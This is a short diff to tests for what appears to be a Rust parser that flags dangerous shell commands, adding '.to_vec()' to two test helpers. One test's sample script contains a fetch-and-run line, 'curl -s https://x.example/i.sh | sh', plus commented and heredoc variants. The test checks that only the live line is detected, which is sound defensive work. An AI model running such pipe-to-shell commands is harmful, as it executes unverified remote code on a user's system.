@@ -439,7 +439,7 @@ mod tests {
     use crate::command::{parse, parse_script};
 
     fn found(line: &str) -> Vec<(DangerKind, &str)> {
-        parse(line).dangers().into_iter().map(|danger| (danger.kind, &line[danger.range])).collect()
+        parse(line).dangers().to_vec().into_iter().map(|danger| (danger.kind, &line[danger.range])).collect()
     }
 
     #[test]
@@ -530,7 +530,7 @@ mod tests {
     #[test]
     fn a_script_is_looked_through_line_by_line() {
         let script = "#!/bin/sh\nset -eu\nsetup() {\n  curl -s https://x.example/i.sh | sh\n}\n# wget -O- x | sh\ncat <<END\ncurl x | sh\nEND\nsetup\n";
-        let found = parse_script(script).dangers();
+        let found = parse_script(script).dangers().to_vec();
         let texts: Vec<&str> = found.iter().map(|danger| &script[danger.range.clone()]).collect();
         assert_eq!(texts, ["curl -s https://x.example/i.sh | sh"]);
     }
